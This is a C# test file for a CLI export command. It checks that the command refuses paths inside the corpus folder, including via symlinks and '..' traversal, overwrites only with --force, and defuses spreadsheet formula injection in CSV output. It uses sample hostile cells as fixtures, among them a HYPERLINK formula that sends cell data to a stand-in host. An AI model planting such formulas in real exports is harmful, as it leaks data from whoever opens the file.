using StatementGen.Tests.Infrastructure;
using Xunit;
using static StatementGen.Tests.Cli.CliRunner;

namespace StatementGen.Tests.Cli;

/// <summary>
/// <c>export</c> never writes into the corpus folder, overwrites a file only with <c>--force</c>, and
/// writes CSV that a spreadsheet cannot run as a formula.
/// </summary>
public class ExportSafetyTests
{
    [Fact]
    public void Export_refuses_to_overwrite_a_corpus_file_even_with_force()
    {
        using var corpus = new TempCorpus(Fixtures.All);
        var target = corpus.PathOf("people/ada-example.yaml");
        foreach (var force in new[] { false, true })
        {
            var (exit, output, error) = force ? Run("export", corpus.Directory, "-o", target, "--force") : Run("export", corpus.Directory, "-o", target);
            Assert.Equal(2, exit);
            Assert.Equal("", output);
            Assert.Contains("inside the corpus folder", error);
            Assert.Equal(Fixtures.Person, File.ReadAllText(target));
        }
    }

    [Fact]
    public void Export_refuses_a_new_file_inside_the_corpus_folder_and_through_a_link_to_it()
    {
        using var corpus = new TempCorpus(Fixtures.All);
        var (exit, _, error) = Run("export", corpus.Directory, "-o", corpus.PathOf("statements/export.json"), "--force");
        Assert.Equal(2, exit);
        Assert.Contains("inside the corpus folder", error);
        Assert.False(File.Exists(corpus.PathOf("statements/export.json")));

        var link = Path.Combine(corpus.Root, "out");
        Directory.CreateSymbolicLink(link, corpus.PathOf("people"));
        (exit, _, error) = Run("export", corpus.Directory, "-o", Path.Combine(link, "ada-example.yaml"), "--force");
        Assert.Equal(2, exit);
        Assert.Contains("inside the corpus folder", error);
        Assert.Equal(Fixtures.Person, File.ReadAllText(corpus.PathOf("people/ada-example.yaml")));

        (exit, _, error) = Run("export", corpus.Directory, "-o", Path.Combine(corpus.Directory, "..", "corpus", "people", "..", "x.json"));
        Assert.Equal(2, exit);
        Assert.Contains("inside the corpus folder", error);
    }

    [Fact]
    public void Export_overwrites_an_existing_file_only_with_force()
    {
        using var corpus = new TempCorpus(Fixtures.All);
        var target = Path.Combine(corpus.Root, "claims.csv");
        File.WriteAllText(target, "keep me");
        var (exit, _, error) = Run("export", corpus.Directory, "--format", "csv", "-o", target);
        Assert.Equal(2, exit);
        Assert.Contains("already exists", error);
        Assert.Contains("--force", error);
        Assert.Equal("keep me", File.ReadAllText(target));

        (exit, _, error) = Run("export", corpus.Directory, "--format", "csv", "-o", target, "--force");
        Assert.True(exit == 0, error);
        Assert.StartsWith("statement,claim,", File.ReadAllText(target));
    }

    [Fact]
    public void Csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers()
    {
        var statement = Fixtures.StatementEarly
            .Replace("text: At least 2,000 people attended.", "text: \"=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"click\\\")\"")
            .Replace("measure: attendance", "measure: \"@SUM(1)\"")
            .Replace("as_stated: \"at least 2,000 people\"", "as_stated: \"-2+3\"")
            .Replace("unit: person", "unit: \"\\tperson\"")
            .Replace("value: 2000", "value: -5")
            .Replace("qualifier: at_least", "qualifier: approximate")
            .Replace("stance: {polarity: positive, certainty: certain}", "stance: {polarity: positive, certainty: certain, cues: [\"\\r=1\"]}\n  - {key: second, type: characterization, text: \"+1+2\", stance: {polarity: positive, certainty: unknown}}");
        using var corpus = new TempCorpus(Fixtures.With("statements/2024/2024-05-01-ada-crowd-2000.yaml", statement));
        var (exit, output, error) = Run("export", corpus.Directory, "--format", "csv");
        Assert.True(exit == 0, error + output);
        Assert.Contains(",characterization,,,,,,,,positive,unknown,,,,\"'+1+2\"\n", output);
        Assert.Contains(",crowd-size,\"'@SUM(1)\",\"'-2+3\",-5,,\"'\tperson\",approximate,positive,certain,\"'\r=1\",,place:example-city,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"", output);
        Assert.DoesNotContain(",=", output);
        Assert.DoesNotContain(",@", output);
        Assert.DoesNotContain(",+", output);
        Assert.DoesNotContain(",\"=", output);
    }
}
